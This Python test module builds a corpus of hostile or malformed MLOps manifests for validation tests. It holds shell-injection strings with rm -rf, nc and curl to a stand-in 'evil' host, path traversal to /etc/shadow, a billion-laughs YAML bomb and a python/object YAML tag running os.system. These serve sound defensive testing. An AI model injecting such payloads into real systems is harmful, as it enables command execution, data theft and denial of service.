"""A corpus of hostile or broken MLOps manifests, each with the field its rejection must name.

Shared by the offline suite (``mlops validate``/``parse_manifest``: clear error, no traceback) and
the e2e suite (the API server's CRD schema answers 422, or the operator marks the object
``Failed`` naming the field and creates nothing). ``expect`` is the field path; ``None`` marks a
manifest that is hostile-looking but *valid* (unicode in a bucket path, a 200-character name):
it must be accepted and rendered, never crash anything.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

SHELL_PAYLOADS = ("$(id)", "`id`", "x; rm -rf /", "x | nc evil 1", "x && curl evil", "x\ny")


def base(name: str = "hostile") -> dict[str, Any]:
    """A valid manifest every case starts from."""
    return {
        "apiVersion": "mlops.dev/v1alpha1",
        "kind": "MLOps",
        "metadata": {"name": name},
        "spec": {
            "trainer": {"kind": "vqvae", "config": {"image_size": 16, "steps_per_epoch": 2}},
            "data": "gs://bucket/images",
            "output": "gs://bucket/runs",
            "epochs": 1,
        },
    }


@dataclass(frozen=True)
class Case:
    id: str
    manifest: dict[str, Any]
    expect: str | None
    """The field path the rejection names, or None when the manifest is valid."""
    offline_only: bool = False
    """Cannot be sent to an API server as is (not a mapping, YAML-level problems...)."""


def _set(doc: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    doc = copy.deepcopy(doc)
    keys = path.split(".")
    node = doc
    for key in keys[:-1]:
        node = node.setdefault(key, {})
    node[keys[-1]] = value
    return doc


def _drop(doc: dict[str, Any], path: str) -> dict[str, Any]:
    doc = copy.deepcopy(doc)
    keys = path.split(".")
    node = doc
    for key in keys[:-1]:
        node = node[key]
    del node[keys[-1]]
    return doc


def _pixelcnn(doc: dict[str, Any]) -> dict[str, Any]:
    return _set(doc, "spec.trainer", {"kind": "pixelcnn", "config": {"vqvae": "parent-run"}})


# Every string field of the spec a user can set, and how to put a value there.
STRING_FIELDS: dict[str, Callable[[Any], dict[str, Any]]] = {
    "spec.data": lambda v: _set(base(), "spec.data", f"gs://bucket/{v}"),
    "spec.output": lambda v: _set(base(), "spec.output", f"gs://bucket/{v}"),
    "spec.image": lambda v: _set(base(), "spec.image", f"repo/image:{v}"),
    "spec.queue": lambda v: _set(base(), "spec.queue", v),
    "spec.resources.cpu": lambda v: _set(base(), "spec.resources.cpu", v),
    "spec.resources.memory": lambda v: _set(base(), "spec.resources.memory", v),
    "spec.resources.gpu.type": lambda v: _set(base(), "spec.resources.gpu.type", v),
    "spec.resume.from": lambda v: _set(base(), "spec.resume", {"from": f"gs://bucket/{v}"}),
    "spec.resume.run": lambda v: _set(base(), "spec.resume", {"run": v}),
    "spec.trainer.config.vqvae": lambda v: _set(
        _pixelcnn(base()), "spec.trainer.config.vqvae", f"gs://bucket/{v}"
    ),
}


def cases() -> list[Case]:
    out: list[Case] = []
    # Shell metacharacters in every string field.
    for field, make in STRING_FIELDS.items():
        for i, payload in enumerate(SHELL_PAYLOADS):
            out.append(Case(f"shell-{field.removeprefix('spec.')}-{i}", make(payload), field))
    # ...and in the name.
    for i, payload in enumerate(SHELL_PAYLOADS[:3]):
        out.append(Case(f"shell-name-{i}", _set(base(), "metadata.name", payload), "metadata.name"))
    huge = "a" * (1024 * 1024 + 1)
    out += [
        # Huge strings.
        Case("huge-data-url", _set(base(), "spec.data", f"gs://bucket/{huge}"), "spec.data"),
        Case("huge-image", _set(base(), "spec.image", f"repo/{'a' * 5000}"), "spec.image"),
        Case("name-254-chars", _set(base(), "metadata.name", "a" * 254), "metadata.name"),
        Case("huge-queue", _set(base(), "spec.queue", "q" * 300), "spec.queue"),
        # A trainer config bigger than a ConfigMap can hold (1 MiB).
        Case(
            "config-over-1mib",
            _set(base(), "spec.trainer.config.notes", huge),
            "spec.trainer.config.notes",
        ),
        # Unicode.
        Case("unicode-name", _set(base(), "metadata.name", "räksmörgås"), "metadata.name"),
        Case(
            "homoglyph-trainer-kind",
            _set(base(), "spec.trainer.kind", "vq\u0432ae"),
            "spec.trainer.kind",
        ),
        Case("rtl-override-queue", _set(base(), "spec.queue", "gpu\u202e"), "spec.queue"),
        Case("nul-in-output", _set(base(), "spec.output", "gs://bucket/a\x00b"), "spec.output"),
        # Path traversal.
        Case(
            "traversal-output", _set(base(), "spec.output", "gs://bucket/../other"), "spec.output"
        ),
        Case("traversal-data-local", _set(base(), "spec.data", "../../etc"), "spec.data"),
        Case("traversal-sample", _set(base(), "spec.data", "sample://../../etc"), "spec.data"),
        Case(
            "traversal-resume",
            _set(base(), "spec.resume", {"from": "file:///runs/../../etc/shadow"}),
            "spec.resume.from",
        ),
        Case("scheme-javascript", _set(base(), "spec.data", "javascript:alert(1)"), "spec.data"),
        Case("scheme-unknown", _set(base(), "spec.output", "ftp://host/x"), "spec.output"),
        Case("sample-as-output", _set(base(), "spec.output", "sample://skimage"), "spec.output"),
        # Missing or wrong types.
        Case("missing-data", _drop(base(), "spec.data"), "spec.data"),
        Case("missing-output", _drop(base(), "spec.output"), "spec.output"),
        Case("missing-trainer", _drop(base(), "spec.trainer"), "spec.trainer"),
        Case("epochs-string", _set(base(), "spec.epochs", "ten"), "spec.epochs"),
        Case("epochs-huge", _set(base(), "spec.epochs", 10**12), "spec.epochs"),
        Case("epochs-negative", _set(base(), "spec.epochs", -1), "spec.epochs"),
        Case("seed-negative", _set(base(), "spec.seed", -5), "spec.seed"),
        Case("spot-string", _set(base(), "spec.spot", "yes please"), "spec.spot"),
        Case(
            "retries-string",
            _set(base(), "spec.retries", {"preemption": "a"}),
            "spec.retries.preemption",
        ),
        Case(
            "gpu-count-huge",
            _set(base(), "spec.resources.gpu.count", 1000),
            "spec.resources.gpu.count",
        ),
        Case("trainer-list", _set(base(), "spec.trainer", ["vqvae"]), "spec.trainer"),
        Case("config-list", _set(base(), "spec.trainer.config", [1, 2]), "spec.trainer.config"),
        Case(
            "learning-rate-nan",
            _set(base(), "spec.trainer.config.learning_rate", float("nan")),
            "spec.trainer.config.learning_rate",
            offline_only=True,  # JSON has no NaN: only YAML can say .nan
        ),
        Case(
            "learning-rate-inf",
            _set(base(), "spec.trainer.config.learning_rate", float("inf")),
            "spec.trainer.config.learning_rate",
            offline_only=True,
        ),
        Case(
            "batch-size-float",
            _set(base(), "spec.trainer.config.batch_size", 1.5),
            "spec.trainer.config.batch_size",
        ),
        Case(
            "unknown-config-field",
            _set(base(), "spec.trainer.config.learning_rat", 0.1),
            "spec.trainer.config.learning_rat",
        ),
        Case("unknown-spec-field", _set(base(), "spec.comand", ["sh", "-c", "id"]), "spec.comand"),
        Case(
            "both-resume-sources",
            _set(base(), "spec.resume", {"from": "gs://b/ckpt", "run": "parent"}),
            "spec.resume",
        ),
        Case(
            "deeply-nested-config",
            _set(base(), "spec.trainer.config.x", _nested(200)),
            "spec.trainer.config.x",
        ),
        # Not even an object.
        Case("spec-null", _set(base(), "spec", None), "spec", offline_only=True),
        Case("spec-string", _set(base(), "spec", "rm -rf /"), "spec", offline_only=True),
        # Hostile-looking but valid: must be accepted and must not crash anything.
        Case(
            "valid-unicode-bucket-path",
            _set(base("unicode-path"), "spec.data", "gs://bucket/ünïcödé/☁"),
            None,
        ),
        Case("valid-name-200-chars", _set(base(), "metadata.name", "n" * 200), None),
        Case(
            "valid-resume-missing-checkpoint",
            _set(base("resume-missing"), "spec.resume", {"from": "gs://bucket/does/not/exist"}),
            None,
        ),
    ]
    return out


def _nested(depth: int) -> Any:
    value: Any = "bottom"
    for _ in range(depth):
        value = {"x": value}
    return value


# YAML-level attacks, for the offline suite only (an API server gets JSON).
YAML_ATTACKS: dict[str, str] = {
    # Billion laughs: aliases that would expand to ~10^9 strings if anything walked them.
    "billion-laughs": "\n".join(
        [
            "a: &a ['lol','lol','lol','lol','lol','lol','lol','lol','lol']",
            *[
                f"{c}: &{c} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]"
                for p, c in zip("abcdefgh", "bcdefghi", strict=True)
            ],
            "apiVersion: mlops.dev/v1alpha1",
            "kind: MLOps",
            "metadata: {name: laughs}",
            "spec: {trainer: {kind: vqvae, config: {notes: *i}}, data: gs://b/d, output: gs://b/o}",
        ]
    ),
    "python-object-tag": "!!python/object/apply:os.system ['id']\n",
    "not-yaml": "apiVersion: [unclosed\n",
}
